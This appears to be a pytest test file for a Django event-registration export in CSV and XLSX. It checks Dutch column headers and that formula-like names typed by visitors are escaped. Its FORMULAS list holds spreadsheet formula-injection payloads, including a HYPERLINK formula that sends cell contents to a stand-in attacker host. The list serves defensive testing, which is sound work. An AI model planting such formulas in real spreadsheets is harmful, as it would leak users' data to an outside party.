"""The registrations export (CSV and XLSX, through django-import-export): the organisers' columns in the UI's
language, and nothing a visitor typed runs as a spreadsheet formula."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from deventer_intl.roles import CIVIL_SERVANT
from tests.agenda.helpers import dutch
from tests.factories import RegistrationFactory, meeting

pytestmark = pytest.mark.django_db

HEADER = ["Naam", "E-mailadres", "Status", "Aangemeld", "Aanwezig", "Taal"]
#: Names that a spreadsheet would run: "==" survives import-export's own escaping, which drops only one "=".
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")', "==1+1", "+31 6 1234", "-2+3", "@SUM(A1:A2)"]


@pytest.fixture
def event(client, make_user):
    client.force_login(make_user(CIVIL_SERVANT))
    event = meeting(capacity=10, slug="netwerkavond")
    RegistrationFactory(event=event, name="Ioana Popescu", email="ioana@example.org", language="de", checked_in=True)
    RegistrationFactory(event=event, name="Hans", email="hans@example.org", status="waiting")
    return event


def export(client, event, fmt):
    response = client.get(reverse("events:registrations-export", kwargs={"slug": event.slug, "fmt": fmt}))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="aanmeldingen-{event.slug}.{fmt}"'
    assert response["Cache-Control"] == "private, no-store"
    return response


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a cell is a formula"
    # Typed cells: the time of registration is a date-time in local time (shown to the minute, as the CSV writes it).
    return [[as_text(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]


def as_text(cell) -> str:
    if isinstance(cell, datetime.datetime):
        return cell.strftime("%Y-%m-%d %H:%M")
    return "" if cell is None else str(cell)


def test_the_export_has_the_organisers_columns_in_dutch(client, event):
    ioana, hans = event.registrations.order_by("created", "pk")
    for rows in (csv_rows(export(client, event, "csv")), xlsx_rows(export(client, event, "xlsx"))):
        assert rows[0] == HEADER
        assert rows[1] == [
            "Ioana Popescu",
            "ioana@example.org",
            dutch("confirmed"),
            timezone.localtime(ioana.created).strftime("%Y-%m-%d %H:%M"),
            dutch("yes"),
            "de",
        ]
        assert rows[2][:3] == ["Hans", "hans@example.org", dutch("on the waiting list")]
        assert rows[2][4:] == [dutch("no"), "nl"]
        assert len(rows) == 3


def test_nothing_a_visitor_typed_runs_as_a_formula(client, event):
    for number, name in enumerate(FORMULAS):
        RegistrationFactory(event=event, name=name, email=f"={number}@example.org")
    for rows in (csv_rows(export(client, event, "csv")), xlsx_rows(export(client, event, "xlsx"))):
        typed = {row[0]: row[1] for row in rows[3:]}
        assert typed == {f"'{name}": f"'={number}@example.org" for number, name in enumerate(FORMULAS)}
